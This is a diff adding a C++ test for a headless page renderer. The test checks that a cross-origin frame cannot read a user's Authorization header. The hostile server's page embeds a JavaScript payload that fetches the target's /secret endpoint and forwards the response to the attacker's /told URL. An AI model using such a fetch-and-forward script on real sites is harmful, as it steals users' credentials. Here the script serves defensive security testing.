@@ -238,3 +238,44 @@ TEST_CASE_FIXTURE(Forbidden,
         CHECK(header_value(received.headers, "authorization") == "");
     CHECK(site.count_requests("/secret") == 2);
 }
+
+TEST_CASE_FIXTURE(Forbidden, "a frame of another origin reads nothing with a user's headers") {
+    REQUIRE_BROWSER();
+    test::HostileServer other(0, "127.0.0.2");
+    site.on("/secret", [](const test::ServerRequest& received, test::Connection& connection) {
+        connection.respond(200, {{"Access-Control-Allow-Origin", "*"}, {"Content-Type", "text/plain"}},
+                           "told: " + std::string(header_value(received.headers, "authorization")));
+    });
+    other.on("/told", [](const test::ServerRequest&, test::Connection& connection) {
+        connection.respond(200, {{"Content-Type", "text/plain"}}, "");
+    });
+    // Itself, and from a document of its own within it.
+    other.on("/frame", [&](const test::ServerRequest&, test::Connection& connection) {
+        const std::string script = fmt::format(
+            "<script>fetch('{}').then(r => r.text()).then(t => fetch('{}?t=' + "
+            "encodeURIComponent(t)))</script>",
+            site.url("/secret"), other.url("/told"));
+        connection.respond(200, {{"Content-Type", "text/html"}},
+                           fmt::format("<p>frame</p>{0}<iframe srcdoc=\"{0}\"></iframe>", script));
+    });
+    page("/own", "<p>own</p><script>fetch('/secret').then(r => r.text()).then(t => window.t = t)</script>");
+    page("/page", fmt::format("<p>page</p><iframe src='{}'></iframe><iframe src='/own'></iframe>",
+                              other.url("/frame")));
+    auto wanted = request("/page");
+    wanted.headers = {{"Authorization", "Bearer key"}};
+    wanted.wait_time = 300ms;
+
+    const auto rendered = shared_pool().render(wanted);
+
+    REQUIRE_MESSAGE(rendered, rendered.error().message);
+    REQUIRE(other.count_requests("/told") == 2);
+    for (const auto& received : other.requests()) {
+        CAPTURE(received.target);
+        CHECK(header_value(received.headers, "authorization") == "");
+        CHECK_FALSE(received.target.contains("Bearer"));
+    }
+    int with_key = 0;
+    for (const auto& received : site.requests())
+        with_key += header_value(received.headers, "authorization") == "Bearer key";
+    CHECK(with_key == 3);  // the page, its own frame, and what that asks for
+}
